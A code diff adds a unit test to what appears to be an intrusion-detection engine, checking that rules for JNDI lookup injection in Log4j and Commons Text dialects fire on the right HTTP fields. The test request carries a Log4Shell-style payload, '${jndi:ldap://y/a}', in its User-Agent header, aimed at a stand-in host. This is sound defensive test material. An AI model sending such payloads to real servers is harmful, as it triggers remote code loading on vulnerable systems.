@@ -231,6 +231,21 @@ static void rules_ask_what_a_lookup_came_to(void)
     bench_stop(&b);
 }
 
+static void rules_see_one_dialect(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n" ANY
+                        "(msg:\"m\"; jndi.dialect:log4j; jndi.class:attack; sid:2;)\n" ANY
+                        "(msg:\"m\"; jndi.dialect:commons-text; sid:3;)\n" ANY
+                        "(msg:\"m\"; jndi.lookup; content:\"dns:\"; sid:4;)\n" ANY
+                        "(msg:\"m\"; jndi.dialect:commons-text; jndi.lookup; content:\"dns:x\"; "
+                        "startswith; sid:5;)\n");
+    request(&b, "GET /?q=${dns:x} HTTP/1.1\r\nUser-Agent: ${jndi:ldap://y/a}\r\n\r\n");
+    EXPECT(&b, "dialects", {3, "http.uri_param.q", "dns:x"}, {5, "http.uri_param.q", "dns:x"},
+           {1, "http.user_agent", "jndi:ldap://y/a"}, {2, "http.user_agent", "jndi:ldap://y/a"});
+    bench_stop(&b);
+}
+
 static void transforms_change_what_is_looked_at(void)
 {
     struct bench b;
@@ -365,6 +380,7 @@ static CU_TestInfo rules[] = {
     {"sizes of the flow are asked", sizes_of_the_flow_are_asked},
     {"a pass rule silences its transaction", a_pass_rule_silences_its_transaction},
     {"rules ask what a look-up came to", rules_ask_what_a_lookup_came_to},
+    {"rules see one dialect", rules_see_one_dialect},
     {"transforms change what is looked at", transforms_change_what_is_looked_at},
     {"an expression that explodes is counted", an_expression_that_explodes_is_counted},
     {"more hits than can be kept hide nothing", more_hits_than_can_be_kept_hide_nothing},
